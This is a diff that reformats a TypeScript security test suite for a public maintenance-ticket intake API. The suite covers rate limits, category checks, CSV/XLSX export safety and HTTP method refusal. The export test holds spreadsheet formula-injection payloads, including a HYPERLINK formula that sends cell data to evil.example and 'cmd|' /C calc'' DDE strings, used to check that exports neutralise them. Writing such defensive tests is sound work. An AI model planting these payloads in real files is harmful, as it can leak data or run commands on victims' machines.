@@ -21,8 +21,11 @@ describe.each(DRIVERS)('public intake security on %s', (driver) => {
   const net = `10.${randomInt(256)}.${randomInt(256)}`;
   let n = 0;
   const file = (body: Record<string, unknown>) =>
-    sys.http.post('/api/public/tickets').set('Idempotency-Key', `sec-${driver}-${(n += 1)}-${randomInt(1e9)}`)
-      .set('X-Forwarded-For', `${net}.${n % 250}`).send(body);
+    sys.http
+      .post('/api/public/tickets')
+      .set('Idempotency-Key', `sec-${driver}-${(n += 1)}-${randomInt(1e9)}`)
+      .set('X-Forwarded-For', `${net}.${n % 250}`)
+      .send(body);
 
   it('finding 2: 29 refused requests on an asset do not use up its hourly allowance; only stored tickets count', async () => {
     const asset = await makeAsset(sys.deps, tenant.id, tenant.siteIds[0]);
@@ -34,14 +37,19 @@ describe.each(DRIVERS)('public intake security on %s', (driver) => {
   });
 
   describe('finding 10: categories', () => {
-    it('refuses a category that none of the tenant\'s assets carries with 400 CATEGORY_NOT_ALLOWED, storing nothing', async () => {
+    it("refuses a category that none of the tenant's assets carries with 400 CATEGORY_NOT_ALLOWED, storing nothing", async () => {
       const asset = await makeAsset(sys.deps, tenant.id, tenant.siteIds[0], { category: '空调' });
-      const res = await file({ assetCode: asset.code, description: '漏水', contactPhone: '13800000000', category: 'VIP-加急-总经理' }).expect(400);
+      const res = await file({
+        assetCode: asset.code,
+        description: '漏水',
+        contactPhone: '13800000000',
+        category: 'VIP-加急-总经理',
+      }).expect(400);
       expect(res.body.error).toMatchObject({ code: 'CATEGORY_NOT_ALLOWED', details: { category: 'VIP-加急-总经理' } });
       expect(await sys.deps.db.ds.getRepository(Ticket).countBy({ assetId: asset.id })).toBe(0);
     });
 
-    it('files under the asset\'s category by default, and under another of the tenant\'s categories when named', async () => {
+    it("files under the asset's category by default, and under another of the tenant's categories when named", async () => {
       const other = await makeTenant(sys.deps);
       await makeAsset(sys.deps, other.id, other.siteIds[0], { category: '保密类别' });
       const ac = await makeAsset(sys.deps, tenant.id, tenant.siteIds[0], { category: '空调' });
@@ -61,10 +69,17 @@ describe.each(DRIVERS)('public intake security on %s', (driver) => {
     const asset = await makeAsset(sys.deps, t.id, t.siteIds[0], { category: '空调' });
     const engineer = await makeUser(sys.deps, t.id, 'engineer', { name: '工程师小王', skills: ['空调'] });
     const filed = await fileTicket(sys.http, `follow-sec-${driver}-${randomInt(1e9)}`, {
-      assetCode: asset.code, description: '空调不制冷', contactPhone: '13800000000',
+      assetCode: asset.code,
+      description: '空调不制冷',
+      contactPhone: '13800000000',
     });
     await waitForOffer(sys.http, engineer.token, filed.number);
-    for (const [action, body] of [['accept', {}], ['travel', {}], ['arrive', {}], ['resolve', { notes: '已修好，有问题打我 13912345678' }]] as const) {
+    for (const [action, body] of [
+      ['accept', {}],
+      ['travel', {}],
+      ['arrive', {}],
+      ['resolve', { notes: '已修好，有问题打我 13912345678' }],
+    ] as const) {
       await sys.http.post(`/api/engineer/jobs/${filed.number}/${action}`).set(auth(engineer.token)).send(body).expect(200);
     }
     await sys.http.post(`/api/public/tickets/${filed.trackingToken}/reopen`).send({ reason: '还是坏的，请回电 13700001111' }).expect(200);
@@ -87,8 +102,11 @@ describe.each(DRIVERS)('public intake security on %s', (driver) => {
   it('finding 3: the asset CSV and XLSX exports neutralise cells a spreadsheet would run as formulas, and import back unchanged', async () => {
     const t = await makeTenant(sys.deps);
     const hostile = {
-      name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', model: '+cmd|\' /C calc\'!A0', location: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-      serial: '-2+3+cmd|\' /C calc\'!A0', category: '\t=1+1',
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+      model: "+cmd|' /C calc'!A0",
+      location: "@SUM(1+1)*cmd|' /C calc'!A0",
+      serial: "-2+3+cmd|' /C calc'!A0",
+      category: '\t=1+1',
     };
     const asset = await makeAsset(sys.deps, t.id, t.siteIds[0]);
     await sys.deps.db.ds.getRepository(Asset).update({ id: asset.id }, hostile);
@@ -98,16 +116,23 @@ describe.each(DRIVERS)('public intake security on %s', (driver) => {
     for (const value of Object.values(hostile)) expect(cells).toContain(`'${value}`);
     for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
 
-    const preview = await sys.http.post('/api/assets/import?mode=preview').set(auth(t.dispatcher.token))
-      .attach('file', Buffer.from(csv.text), 'assets.csv').expect(200);
+    const preview = await sys.http
+      .post('/api/assets/import?mode=preview')
+      .set(auth(t.dispatcher.token))
+      .attach('file', Buffer.from(csv.text), 'assets.csv')
+      .expect(200);
     expect(JSON.stringify(preview.body)).not.toContain("'=HYPERLINK");
 
-    const xlsx = await sys.http.get('/api/assets/export?format=xlsx').set(auth(t.dispatcher.token))
-      .buffer(true).parse((res, cb) => {
+    const xlsx = await sys.http
+      .get('/api/assets/export?format=xlsx')
+      .set(auth(t.dispatcher.token))
+      .buffer(true)
+      .parse((res, cb) => {
         const chunks: Buffer[] = [];
         res.on('data', (c: Buffer) => chunks.push(c));
         res.on('end', () => cb(null, Buffer.concat(chunks)));
-      }).expect(200);
+      })
+      .expect(200);
     const { Workbook } = await import('exceljs');
     const book = new Workbook();
     await book.xlsx.load(new Uint8Array(xlsx.body as Buffer).buffer);
@@ -139,8 +164,11 @@ describe.each(DRIVERS)('public intake security on %s', (driver) => {
       const client = new RawClient(sys.baseUrl);
       try {
         for (const [method, status, code] of [
-          ['TRACE', 405, 'METHOD_NOT_ALLOWED'], ['PROPFIND', 501, 'NOT_IMPLEMENTED'], ['MKCOL', 501, 'NOT_IMPLEMENTED'],
-          ['COPY', 501, 'NOT_IMPLEMENTED'], ['LOCK', 501, 'NOT_IMPLEMENTED'],
+          ['TRACE', 405, 'METHOD_NOT_ALLOWED'],
+          ['PROPFIND', 501, 'NOT_IMPLEMENTED'],
+          ['MKCOL', 501, 'NOT_IMPLEMENTED'],
+          ['COPY', 501, 'NOT_IMPLEMENTED'],
+          ['LOCK', 501, 'NOT_IMPLEMENTED'],
         ] as const) {
           for (const path of ['/', '/api/tickets', '/r/ABC']) {
             const res = await client.send({ method, path });
